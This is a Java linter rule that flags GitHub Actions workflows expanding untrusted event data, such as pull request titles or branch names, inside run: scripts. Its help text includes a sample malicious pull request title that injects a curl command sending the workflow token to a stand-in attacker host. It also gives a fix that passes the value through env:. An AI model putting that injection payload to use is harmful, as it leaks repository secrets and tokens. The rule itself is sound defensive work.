package io.opsdoc.rules.githubactions;

import io.opsdoc.core.Level;
import io.opsdoc.core.embedded.YamlBlock;
import io.opsdoc.core.rule.DocumentContext;
import io.opsdoc.core.rule.DocumentRule;
import io.opsdoc.core.rule.Message;
import io.opsdoc.core.rule.RuleMeta;
import io.opsdoc.core.source.Position;
import io.opsdoc.core.source.Range;
import io.opsdoc.core.source.SourceFile;
import java.util.List;
import java.util.Optional;
import org.snakeyaml.engine.v2.nodes.ScalarNode;

/** Untrusted event data expanded with {@code ${{ }}} inside a {@code run:} script. */
final class ScriptInjectionRule implements DocumentRule {
    static final String ID = "github-actions/script-injection";

    private static final String HELP = """
            GitHub substitutes `${{ }}` expressions into a `run:` script *before* the shell sees it.
            When the expression reads text that an outside contributor controls — an issue or pull
            request title or body, a comment, a branch name (`github.head_ref`), a commit message or
            author — that text becomes part of the script. A pull request titled
            `a"; curl -d "$GITHUB_TOKEN" https://attacker.test; echo "` then runs the attacker's
            command with the workflow's token and secrets. Expressions in `with:` and `if:` are
            not interpreted by a shell and are not reported.

            **How to fix**: pass the value through an environment variable and quote the variable
            in the script; the shell then treats it as data:

            ```yaml
            - name: Greet the author
              env:
                PR_TITLE: ${{ github.event.pull_request.title }}
              run: echo "Checking pull request: $PR_TITLE"
            ```
            """;

    static final Message INJECTION = Message.of("injection",
            "'{0}' is expanded into the run: script, so its text runs as shell code; pass it through env: "
                    + "and use the quoted variable instead");

    private static final RuleMeta META = RuleMeta.of(ID, Level.ERROR,
            "Untrusted `${{ github.event.* }}` / `github.head_ref` expanded inside `run:`",
            HELP, List.of("github-actions", "security", "injection"))
            .withSecuritySeverity("8.8")
            .withMessages(INJECTION);

    @Override
    public RuleMeta meta() {
        return META;
    }

    @Override
    public void check(DocumentContext context) {
        SourceFile source = context.document().source();
        for (Workflows.Run run : Workflows.runs(context)) {
            ScalarNode value = run.value();
            for (Expressions.Expression expression : Expressions.find(value.getValue())) {
                Optional<String> untrusted = Expressions.untrustedContext(expression.body());
                if (untrusted.isEmpty()) {
                    continue;
                }
                Range range = locate(source, run.doc().block(), value, expression)
                        .orElseGet(() -> run.doc().block().range(value));
                context.report(range, INJECTION, untrusted.get());
            }
        }
    }

    /**
     * Finds the {@code ${{} of {@code expression} in the file: the n-th {@code ${{} of the value
     * is the n-th one of the scalar's source text, whatever the scalar style (escapes and block
     * indentation never split the three characters).
     */
    private static Optional<Range> locate(SourceFile source, YamlBlock block, ScalarNode value,
            Expressions.Expression expression) {
        Position start = block.start(value);
        int end = value.getEndMark()
                .map(m -> block.block().position(m.getLine(), m.getColumn()).offset())
                .orElse(start.offset());
        if (end <= start.offset()) {
            return Optional.empty();
        }
        String raw = source.text().substring(start.offset(), end);
        int at = -1;
        for (int i = 0; i <= expression.occurrence(); i++) {
            at = raw.indexOf("${{", at + 1);
            if (at < 0) {
                return Optional.empty();
            }
        }
        int close = raw.indexOf("}}", at);
        int rangeEnd = close < 0 ? at + 3 : close + 2;
        int lineEnd = source.lineContentEnd(source.lineOf(start.offset() + at));
        return Optional.of(source.range(start.offset() + at, Math.min(start.offset() + rangeEnd, lineEnd)));
    }
}
